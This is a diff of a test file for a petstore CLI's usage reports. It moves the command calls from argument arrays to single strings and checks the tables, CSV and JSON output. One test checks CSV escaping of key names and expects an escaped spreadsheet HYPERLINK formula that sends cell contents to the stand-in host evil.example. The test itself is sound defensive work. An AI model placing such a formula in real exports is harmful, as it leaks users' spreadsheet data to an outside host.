@@ -45,18 +45,18 @@ beforeAll(async () => {
 describe("petstore usage", () => {
   test("without a database: a sentence, and no files", async () => {
     const cli = new InProcessCli();
-    expect(await cli.run(["usage"])).toEqual({
+    expect(await cli.run("usage")).toEqual({
       code: 0,
       err: "",
       out: "There were no requests from 2026-10-17 to 2026-11-15, both included.\n",
     });
     expect(await cli.json<unknown>("usage")).toEqual([]);
-    expect(await cli.json<unknown>("usage", "--by", "day")).toEqual([]);
+    expect(await cli.json<unknown>("usage --by day")).toEqual([]);
     expect(existsSync(cli.dataDir)).toBe(false);
   });
 
   test("all keys: a table of sums over the last 30 days, most requests first", async () => {
-    expect((await cli.run(["usage"])).out).toBe(
+    expect((await cli.run("usage")).out).toBe(
       `ID     NAME            PLAN  ADMITTED  LIMITED  BANNED  ERRORS  LAST USED
 2      the "big", one  pro      1,202       30       4       7  2026-11-15T12:00:00Z
 1      app             free         2        0       0       2  2026-11-15T12:00:00Z
@@ -66,11 +66,11 @@ Total                           1,204       30       4       9
     const big = { keyId: 2, name: 'the "big", one', plan: "pro" };
     const app = { keyId: 1, name: "app", plan: "free" };
     const lastUsedAt = "2026-11-15T12:00:00.000Z";
-    expect(await cli.json<unknown>("usage", "--since", "24h")).toEqual([
+    expect(await cli.json<unknown>("usage --since 24h")).toEqual([
       { ...big, admitted: 1_200, limited: 30, banned: 4, errors: 5, lastUsedAt },
       { ...app, admitted: 2, limited: 0, banned: 0, errors: 2, lastUsedAt },
     ]);
-    expect((await cli.run(["usage", "--by", "key", "--csv"])).out).toBe(
+    expect((await cli.run("usage --by key --csv")).out).toBe(
       `key_id,name,plan,admitted,limited,banned,errors,last_used_at
 2,"the ""big"", one",pro,1202,30,4,7,2026-11-15T12:00:00.000Z
 1,app,free,2,0,0,2,2026-11-15T12:00:00.000Z
@@ -79,7 +79,7 @@ Total                           1,204       30       4       9
   });
 
   test("one key: a table by day, and one by operation", async () => {
-    expect((await cli.run(["usage", "2"])).out).toBe(
+    expect((await cli.run("usage 2")).out).toBe(
       `DAY         ADMITTED  LIMITED  BANNED  ERRORS
 2026-11-14         2        0       0       2
 2026-11-15     1,200       30       4       5
@@ -90,18 +90,16 @@ listPets      1,195        0       0       0
 none              7       30       4       7
 `,
     );
-    expect((await cli.run(["usage", "2", "--by", "hour"])).out).toStartWith(
+    expect((await cli.run("usage 2 --by hour")).out).toStartWith(
       `HOUR               ADMITTED  LIMITED  BANNED  ERRORS
 2026-11-15T12:00Z     1,200       30       4       5
 Total `,
     );
-    expect((await cli.run(["usage", "1", "--by", "key", "--since", "60d"])).out).toContain(
-      "\n1      app   free     1,202 ",
-    );
+    expect((await cli.run("usage 1 --by key --since 60d")).out).toContain("\n1      app   free     1,202 ");
   });
 
   test("all keys by day: the sums over the keys", async () => {
-    expect((await cli.run(["usage", "--by", "day", "--since", "2026-11-15"])).out).toStartWith(
+    expect((await cli.run("usage --by day --since 2026-11-15")).out).toStartWith(
       `DAY         ADMITTED  LIMITED  BANNED  ERRORS
 2026-11-15     1,202       30       4       7
 `,
@@ -123,14 +121,14 @@ Total `,
       [25, counts(3, getPet(2))],
       [31 * 24, counts(1, getPet(9))],
     );
-    expect((await cli.run(["usage", "--operation", "getPet"])).out).toBe(
+    expect((await cli.run("usage --operation getPet")).out).toBe(
       `ID     NAME   PLAN  ADMITTED  LIMITED  BANNED  ERRORS  LAST USED
 3      older  free         6        0       0       1  2026-11-15T12:00:00Z
 2      old    free         3        0       0       0  2026-11-15T12:00:00Z
 Total                      9        0       0       1
 `,
     );
-    expect((await cli.run(["usage", "3", "--operation", "getPet"])).out).toBe(
+    expect((await cli.run("usage 3 --operation getPet")).out).toBe(
       `DAY         ADMITTED  LIMITED  BANNED  ERRORS
 2026-11-14         2        0       0       0
 2026-11-15         4        0       0       1
@@ -140,20 +138,18 @@ OPERATION  ADMITTED  LIMITED  BANNED  ERRORS
 getPet            6        0       0       1
 `,
     );
-    expect((await cli.run(["usage", "--operation", "getPet", "--csv", "--since", "2026-11-15"])).out).toBe(
+    expect((await cli.run("usage --operation getPet --csv --since 2026-11-15")).out).toBe(
       `key_id,name,start,operation,admitted,limited,banned,errors
 2,old,2026-11-15T00:00:00.000Z,getPet,3,0,0,0
 3,older,2026-11-15T00:00:00.000Z,getPet,4,0,0,1
 `,
     );
-    expect((await cli.run(["usage", "--operation", "placeOrder"])).out).toStartWith(
-      "There were no requests from ",
-    );
-    expect((await cli.run(["usage", "--operation", "getpets"])).code).toBe(2);
+    expect((await cli.run("usage --operation placeOrder")).out).toStartWith("There were no requests from ");
+    expect((await cli.run("usage --operation getpets")).code).toBe(2);
   });
 
   test("--csv: one row per key, day and operation", async () => {
-    expect((await cli.run(["usage", "--csv", "--since", "2026-11-14", "--until", "2026-11-15"])).out).toBe(
+    expect((await cli.run("usage --csv --since 2026-11-14 --until 2026-11-15")).out).toBe(
       `key_id,name,start,operation,admitted,limited,banned,errors
 1,app,2026-11-15T00:00:00.000Z,none,2,0,0,2
 2,"the ""big"", one",2026-11-14T00:00:00.000Z,none,2,0,0,2
@@ -169,7 +165,7 @@ getPet            6        0       0       1
     for (const name of ["+1", "@SUM(1)", "1=1"]) await createKey(cli, "--name", name, "--plan", "free");
     await createKey(cli, "--name=-1", "--plan", "free");
     await addUsage(cli, [0, ...[1, 2, 3, 4, 5].map((id) => counts(id))]);
-    const { out } = await cli.run(["usage", "--by", "key", "--csv"]);
+    const { out } = await cli.run("usage --by key --csv");
     expect(out).toContain(`1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",free,`);
     expect(out).toContain("2,'+1,free,");
     expect(out).toContain("3,'@SUM(1),free,");
@@ -180,7 +176,7 @@ getPet            6        0       0       1
   test("--json: one object per interval and operation", async () => {
     const yesterday = { keyId: 2, start: "2026-11-14T11:00:00.000Z" };
     const today = { keyId: 2, start: "2026-11-15T12:00:00.000Z" };
-    expect(await cli.json<unknown>("usage", "2", "--by", "hour", "--since", "26h")).toEqual([
+    expect(await cli.json<unknown>("usage 2 --by hour --since 26h")).toEqual([
       { ...yesterday, operation: "none", admitted: 2, limited: 0, banned: 0, errors: 2 },
       { ...today, operation: "listPets", admitted: 1_195, limited: 0, banned: 0, errors: 0 },
       { ...today, operation: "none", admitted: 5, limited: 30, banned: 4, errors: 5 },
@@ -202,7 +198,7 @@ getPet            6        0       0       1
   });
 
   test("a key that does not exist", async () => {
-    const { code, err } = await cli.run(["usage", "9"]);
+    const { code, err } = await cli.run("usage 9");
     expect(code).toBe(1);
     expect(err).toStartWith("key 9 does not exist in production (data: ");
   });
